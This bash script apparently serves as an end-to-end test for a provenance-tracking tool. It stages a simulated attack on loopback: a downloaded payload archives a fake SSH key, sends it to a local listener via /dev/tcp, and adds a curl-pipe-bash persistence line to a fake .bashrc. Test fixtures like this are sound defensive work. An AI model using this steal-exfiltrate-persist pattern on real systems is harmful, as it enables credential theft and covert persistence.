#!/bin/bash
# provscope-attack-chain: the scripted attack of issue 5, on loopback only,
# with unrelated activity beside it, for the end-to-end provenance test and
# demos. The chain: an HTTP server on 127.0.0.1 serves x.sh; curl downloads
# it to /tmp/<unique>/.x; chmod +x; it runs: reads $HOME/.ssh/id_rsa (a fake
# key in a fake HOME), archives it with tar, sends the archive with
# cat > /dev/tcp/127.0.0.3/PORT to a listener started here, appends a line to
# $HOME/.bashrc (the fake one). Beside it: provscope-activity --only normal
# and a loop writing and reading files of its own.
# Prints one JSON line per step with its pids, paths and ports; the activity
# generator's lines ("pattern") are interleaved. Exit status 0 when every step
# worked. Never touches the real HOME, /etc or crontab.
#
# Care for the test: this orchestrator only forks the unrelated processes and
# never reads anything they write (no $(...) of theirs), so backtracking from
# the chain cannot reach them through it.
usage="usage: provscope-attack-chain [--unrelated SECONDS] [--activity PATH] [--keep]"
set -u
unrelated_seconds=4
activity="${0%/*}/provscope-activity"
keep=0
while [ $# -gt 0 ]; do
    case "$1" in
        --unrelated) unrelated_seconds="${2:?--unrelated needs seconds}"; shift 2 ;;
        --activity) activity="${2:?--activity needs a path}"; shift 2 ;;
        --keep) keep=1; shift ;;
        -h|--help) echo "$usage"; exit 0 ;;
        *) echo "provscope-attack-chain: unknown argument '$1'" >&2; echo "$usage" >&2; exit 2 ;;
    esac
done
# Debian's python3, not a pyenv/virtualenv shim found first on PATH (shims are
# shell scripts: dozens of processes in every backtrack through the servers).
python=python3
[ -x /usr/bin/python3 ] && python=/usr/bin/python3
for tool in curl "$python" tar; do
    command -v "$tool" >/dev/null || { echo "provscope-attack-chain: $tool is missing (packaging/debian-packages.txt)" >&2; exit 3; }
done
[ -x "$activity" ] || { echo "provscope-attack-chain: no activity generator at $activity" >&2; exit 3; }

# Builtins only from here on where a value is needed: no command substitution.
work="${TMPDIR:-/tmp}/provscope-chain-$$-$RANDOM"
mkdir -m 700 "$work" || exit 1
home="$work/home"
www="$work/www"
other="$work/unrelated"
mkdir -p "$home/.ssh" "$www" "$other" || exit 1
# Pauses are `read -t` on a FIFO nobody writes: no sleep processes, no data.
mkfifo "$work/pause" "$other/pause" || exit 1
export HOME="$home"
printf '%s\n' "-----BEGIN OPENSSH PRIVATE KEY-----" "provscope-attack-chain-fake-key-not-a-real-key" \
    "-----END OPENSSH PRIVATE KEY-----" > "$home/.ssh/id_rsa"
chmod 600 "$home/.ssh/id_rsa"
printf '{"step":"start","pid":%d,"dir":"%s","home":"%s"}\n' $$ "$work" "$home"

fail() {
    printf '{"step":"failed","why":"%s"}\n' "$1"
    kill "${pids_to_stop[@]}" 2>/dev/null
    wait
    [ "$keep" = 1 ] || rm -rf "$work"
    exit 1
}
pids_to_stop=()

# --- unrelated activity, started first so it runs beside the whole chain ---
"$activity" --duration "$unrelated_seconds" --only normal --seed $$ &
activity_pid=$!
(
    end=$((SECONDS + unrelated_seconds))
    i=0
    while [ $SECONDS -lt $end ]; do
        printf 'entry %d\n' $i >> "$other/journal.txt"
        while IFS= read -r line; do :; done < "$other/journal.txt"
        printf 'copy %d\n' $i > "$other/copy-$((i % 4)).txt"
        i=$((i + 1))
        read -r -t 0.05 <> "$other/pause"
    done
) &
loop_pid=$!
pids_to_stop+=("$activity_pid" "$loop_pid")
printf '{"step":"unrelated","pids":[%d,%d],"paths":["%s","%s"]}\n' "$activity_pid" "$loop_pid" \
    "$other/journal.txt" "$other"

# --- servers: HTTP on 127.0.0.1, the exfiltration listener on 127.0.0.3 ---
# Ports below the ephemeral range, retried when taken.
listening() { # PID ADDR PORT: wait until PID accepts on ADDR:PORT
    local i
    for ((i = 0; i < 200; i++)); do
        kill -0 "$1" 2>/dev/null || return 1
        (exec 3<>"/dev/tcp/$2/$3") 2>/dev/null && return 0
        read -r -t 0.05 <> "$work/pause"
    done
    return 1
}
ready_file() { # PID FILE: wait until PID has created FILE (a stat, no connection)
    local i
    for ((i = 0; i < 200; i++)); do
        kill -0 "$1" 2>/dev/null || return 1
        [ -e "$2" ] && return 0
        read -r -t 0.05 <> "$work/pause"
    done
    return 1
}
sink_port=0
received="$work/received.tar"
sink_ready="$work/listener.ready"
for attempt in 1 2 3 4 5; do
    sink_port=$((20000 + RANDOM % 12000))
    "$python" -c '
import socket, sys
addr, port, out, ready = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind((addr, port))
server.listen(4)
server.settimeout(60)
open(ready, "w").close()  # no probe connection: only the payload ever reaches 127.0.0.3
while True:  # a connection that sends nothing is ignored; the payload ends it
    conn, _ = server.accept()
    conn.settimeout(10)
    data = b""
    while True:
        chunk = conn.recv(65536)
        if not chunk:
            break
        data += chunk
    conn.close()
    if data:
        with open(out, "wb") as f:
            f.write(data)
        break
' 127.0.0.3 "$sink_port" "$received" "$sink_ready" &
    sink_pid=$!
    ready_file "$sink_pid" "$sink_ready" && break
    kill "$sink_pid" 2>/dev/null
    sink_pid=0
done
[ "$sink_pid" != 0 ] || fail "no listener on 127.0.0.3"
pids_to_stop+=("$sink_pid")

# The payload, with its drop point and its destination baked in as a dropper's would be.
printf '%s\n' '#!/bin/bash' \
    '# steal the ssh key, phone home, persist' \
    'printf '"'"'{"step":"script","pid":%d,"path":"%s"}\n'"'"' $$ "$0"' \
    'archive="${0%/*}/.k.tar"' \
    'tar cf "$archive" -C "$HOME" .ssh/id_rsa & tar_pid=$!' \
    'wait $tar_pid || exit 1' \
    'printf '"'"'{"step":"archive","pid":%d,"path":"%s","source":"%s"}\n'"'"' $tar_pid "$archive" "$HOME/.ssh/id_rsa"' \
    "cat \"\$archive\" > /dev/tcp/127.0.0.3/$sink_port & send_pid=\$!" \
    'wait $send_pid || exit 2' \
    "printf '{\"step\":\"send\",\"pid\":%d,\"addr\":\"127.0.0.3\",\"port\":%d}\\n' \$send_pid $sink_port" \
    'echo "(curl -s http://127.0.0.1/x.sh | bash &) # provscope-attack-chain" >> "$HOME/.bashrc"' \
    'printf '"'"'{"step":"persistence","pid":%d,"path":"%s"}\n'"'"' $$ "$HOME/.bashrc"' \
    > "$www/x.sh"

http_pid=0
for attempt in 1 2 3 4 5; do
    http_port=$((20000 + RANDOM % 12000))
    "$python" -m http.server --bind 127.0.0.1 --directory "$www" "$http_port" >> "$work/http.log" 2>&1 &
    http_pid=$!
    listening "$http_pid" 127.0.0.1 "$http_port" && break
    kill "$http_pid" 2>/dev/null
    http_pid=0
done
[ "$http_pid" != 0 ] || fail "no HTTP server on 127.0.0.1"
pids_to_stop+=("$http_pid")
printf '{"step":"servers","http_pid":%d,"http_port":%d,"served":"%s","listener_pid":%d,"listener_addr":"127.0.0.3","listener_port":%d}\n' \
    "$http_pid" "$http_port" "$www/x.sh" "$sink_pid" "$sink_port"

# --- the chain ---
drop="$work/.x"
url="http://127.0.0.1:$http_port/x.sh"
curl -sS --noproxy '*' -o "$drop" "$url" &
curl_pid=$!
wait "$curl_pid" || fail "curl could not download $url"
printf '{"step":"download","pid":%d,"url":"%s","path":"%s"}\n' "$curl_pid" "$url" "$drop"
chmod +x "$drop" &
chmod_pid=$!
wait "$chmod_pid" || fail "chmod failed"
printf '{"step":"chmod","pid":%d,"path":"%s"}\n' "$chmod_pid" "$drop"
"$drop" &
script_pid=$!
wait "$script_pid" || fail "the downloaded script failed"
printf '{"step":"executed","pid":%d,"path":"%s"}\n' "$script_pid" "$drop"
wait "$sink_pid"
[ -s "$received" ] || fail "the listener received nothing"
printf '{"step":"received","pid":%d,"path":"%s"}\n' "$sink_pid" "$received"

kill "$http_pid"
wait "$http_pid" "$activity_pid" "$loop_pid" 2>/dev/null
printf '{"step":"done","ok":true}\n'
[ "$keep" = 1 ] || rm -rf "$work"
exit 0
